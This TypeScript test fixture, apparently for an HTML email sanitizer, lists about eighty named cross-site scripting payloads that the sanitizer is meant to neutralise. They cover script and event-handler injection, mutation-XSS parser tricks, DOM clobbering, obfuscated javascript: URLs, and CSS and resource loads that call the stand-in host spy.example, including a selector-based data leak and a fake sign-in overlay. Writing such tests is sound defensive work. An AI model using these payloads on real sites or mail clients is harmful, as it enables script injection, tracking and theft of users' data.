/** Every script calls this, and every resource comes from this host. */
const RUN = "top.console.log('MAIL RAN');alert('MAIL RAN')";
const SPY = 'https://spy.example';

/** Attacks by mail. None of them may have an effect. */
export const ATTACKS: readonly (readonly [name: string, html: string])[] = [
  ['a script', `<script>${RUN}</script>`],
  ['a script from elsewhere', `<script src="${SPY}/a.js"></script>`],
  ['a script in pieces', `<scr<script>ipt>${RUN}</scr</script>ipt>`],
  ['a script with a slash', `<script/x>${RUN}</script >`],
  ['a script that is not closed', `<script>${RUN}`],
  ['a picture that fails', `<img src=x onerror="${RUN}">`],
  ['a picture that fails, without quotes', `<img src=x onerror=${RUN.replaceAll("'", '`')}>`],
  ['handlers', `<div onclick="${RUN}" onmouseover="${RUN}" onfocus="${RUN}" tabindex=0 autofocus>x</div>`],
  ['a body that loads', `<body onload="${RUN}" onpageshow="${RUN}">x</body>`],
  ['a details that toggles', `<details open ontoggle="${RUN}">x</details>`],
  [
    'an animation that starts',
    `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${RUN}">`,
  ],
  ['a video', `<video src="${SPY}/v.mp4" poster="${SPY}/p.png" onerror="${RUN}" autoplay></video>`],
  ['a sound', `<audio src="${SPY}/a.mp3" autoplay onerror="${RUN}"></audio>`],
  ['a track', `<video><source src="${SPY}/v" onerror="${RUN}"><track src="${SPY}/t" default></video>`],
  ['SVG that loads', `<svg onload="${RUN}"><circle r=1 /></svg>`],
  ['SVG with a script', `<svg><script>${RUN}</script></svg>`],
  ['SVG that uses', `<svg><use href="${SPY}/x.svg#y"/><image href="${SPY}/i.png"/></svg>`],
  [
    'SVG that animates a link',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
  ],
  ['SVG with foreign words', `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>`],
  [
    'SVG that is data',
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">`,
  ],
  ['MathML', `<math><maction actiontype="statusline#x" xlink:href="javascript:${RUN}">x</maction></math>`],
  [
    'MathML that mutates',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  ],
  ['a form in MathML', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`],
  ['SVG style that mutates', `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`],
  ['a title in SVG', `<svg><title><style><img src=x onerror="${RUN}"></style></title></svg>`],
  ['a noscript', `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`],
  ['a template', `<template><img src=x onerror="${RUN}"><script>${RUN}</script></template>`],
  ['a shadow root', `<div><template shadowrootmode="open"><img src=x onerror="${RUN}"></template></div>`],
  ['a textarea', `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`],
  ['an xmp', `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`],
  ['a comment', `<!--><img src=x onerror="${RUN}">-->`],
  ['a comment with a bang', `<!-- --!><img src=x onerror="${RUN}"> -->`],
  ['a condition', `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`],
  ['CDATA', `<svg><![CDATA[><img src=x onerror=${RUN}>]]></svg>`],
  ['an instruction', `<?xml-stylesheet href="${SPY}/x.css"?><p>x`],
  [
    'a clobbered form',
    '<form id=x><input name=attributes><input name=parentNode><input name=nodeName></form>',
  ],
  [
    'clobbered names',
    '<a id=document></a><img name=body src=x><a id=defaultView href="javascript:alert(1)">x</a>',
  ],
  ['a form', `<form action="${SPY}/f"><input name=p autofocus onfocus="${RUN}"><button>Send</button></form>`],
  [
    'a button with its own action',
    `<button formaction="javascript:${RUN}">x</button><isindex action=javascript:x>`,
  ],
  ['a link that runs', `<a href="javascript:${RUN}">x</a>`],
  [
    'a link that runs, in disguise',
    '<a href="java&#10;script&colon;alert(1)">x</a><a href=" &#1;javascript:alert(1)">y</a>',
  ],
  ['a link to data', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['a link to a file', '<a href="file:///etc/passwd">x</a><a href="blob:x">y</a><a href="vbscript:x">z</a>'],
  [
    'a relative link',
    '<a href="/api/people">x</a><a href="//spy.example/x">y</a><a href="x.html">z</a><a href="">w</a>',
  ],
  ['a link that pings', `<a href="https://a.example" ping="${SPY}/ping" target=_top rel=opener>x</a>`],
  ['a map', '<map name=m><area href="javascript:alert(1)" shape=default></map><img usemap="#m" src=x>'],
  ['a refresh', `<meta http-equiv="refresh" content="0;url=${SPY}/r">`],
  [
    'a weaker policy',
    `<meta http-equiv="content-security-policy" content="default-src *"><img src="${SPY}/i">`,
  ],
  ['a base', `<base href="${SPY}/" target="_top"><a href="x">x</a><img src="y.png">`],
  ['a frame', `<iframe src="${SPY}/f"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe>`],
  [
    'a frame that runs',
    `<iframe src="javascript:${RUN}"></iframe><frameset><frame src="${SPY}/f"></frameset>`,
  ],
  ['a portal', `<portal src="${SPY}/p"></portal><fencedframe src="${SPY}/p"></fencedframe>`],
  ['an object', `<object data="${SPY}/o" type="text/html"><param name=movie value="${SPY}/m"></object>`],
  ['an embed', `<embed src="${SPY}/e"><applet code="x" archive="${SPY}/a"></applet>`],
  [
    'style sheets',
    `<link rel=stylesheet href="${SPY}/s.css"><style>@import "${SPY}/i.css"; body{background:url(${SPY}/b)}</style>`,
  ],
  [
    'hints',
    `<link rel=prefetch href="${SPY}/1"><link rel=preload as=image href="${SPY}/2"><link rel=preconnect href="${SPY}">`,
  ],
  [
    'more hints',
    `<link rel=dns-prefetch href="${SPY}"><link rel=modulepreload href="${SPY}/3"><link rel=manifest href="${SPY}/4">`,
  ],
  [
    'a picture',
    `<img src="${SPY}/i.png"><img src="http://spy.example/j.png"><input type=image src="${SPY}/k.png">`,
  ],
  [
    'sets of pictures',
    `<img srcset="${SPY}/1x.png 1x, ${SPY}/2x.png 2x"><picture><source srcset="${SPY}/s.png"><img src=x></picture>`,
  ],
  [
    'lazy pictures',
    `<img loading=eager fetchpriority=high src="//spy.example/l.png"><image src="${SPY}/old.png">`,
  ],
  ['backgrounds', `<table background="${SPY}/t.png"><tr><td background="${SPY}/d.png">x</td></tr></table>`],
  [
    'styles that fetch',
    `<p style="background:url(${SPY}/1);list-style-image:url('${SPY}/2');content:url(${SPY}/3)">x</p>`,
  ],
  [
    'styles that fetch in disguise',
    `<p style="background:u\\72l(${SPY}/1);border-image:u/**/rl(${SPY}/2);cursor:url(${SPY}/3),auto">x</p>`,
  ],
  [
    'styles with sets',
    `<p style='background-image:image-set("${SPY}/1" 1x);mask:url(${SPY}/2);filter:url(${SPY}/3#x)'>x</p>`,
  ],
  [
    'styles that read',
    `<style>a[href^="h"]{background:url(${SPY}/leak)}</style><a href="https://a.example">x</a>`,
  ],
  ['a font', `<style>@font-face{font-family:x;src:url(${SPY}/f.woff)}</style><p style="font-family:x">x</p>`],
  [
    'styles that cover',
    '<div style="position:fixed;inset:0;z-index:99999;background:red">Sign in again</div>',
  ],
  ['an unclosed tag', `<p>x<img src="${SPY}/u.png" alt="`],
  [
    'an unclosed quotation',
    `<a title="x><script>${RUN}</script>">y</a><img src=x onerror='${RUN.replaceAll("'", '`')}`,
  ],
  [
    'null bytes',
    `<scr\0ipt>${RUN}</scr\0ipt><img src=x on\0error="${RUN}"><a href="java\0script:alert(1)">x</a>`,
  ],
  ['odd spaces', `<img/src=x/onerror="${RUN}"><svg\fonload="${RUN}"><img\u2028src=x onerror="${RUN}">`],
  ['UTF-7', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-<meta charset="utf-7">'],
  [
    'a huge attribute',
    `<p title="${'x'.repeat(300_000)}" onclick="${RUN}">x</p><img src=x onerror="${RUN}">`,
  ],
  ['many attributes', `<p ${'a=b '.repeat(20_000)} onmouseover="${RUN}">x</p>`],
  [
    'deep nesting that mutates',
    `${'<div>'.repeat(600)}<svg><style><img src=x onerror="${RUN}"></style></svg>`,
  ],
  [
    'tables that throw out',
    `<table><img src=x onerror="${RUN}"><tr><svg><desc><td><script>${RUN}</script></table>`,
  ],
  [
    'a selection',
    `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${RUN}>">`,
  ],
  ['a custom element', `<x-y is="z" onload="${RUN}" style="x:expression(${RUN})">x</x-y>`],
  [
    'a dialog and a popover',
    `<dialog open onclose="${RUN}">x</dialog><button popovertarget=p>y</button><p id=p popover>z`,
  ],
  ['a marquee', `<marquee onstart="${RUN}">x</marquee><keygen autofocus onfocus="${RUN}">`],
  ['a namespace', `<html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>${RUN}</x:script></html>`],
];
